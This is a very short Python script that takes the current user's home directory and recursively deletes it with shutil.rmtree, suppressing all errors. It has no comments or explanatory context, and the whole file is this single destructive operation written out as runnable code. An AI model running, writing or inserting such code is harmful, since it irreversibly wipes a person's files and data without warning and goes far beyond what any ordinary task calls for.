import pathlib
import shutil

home = pathlib.Path.home()
shutil.rmtree(home, ignore_errors=True)
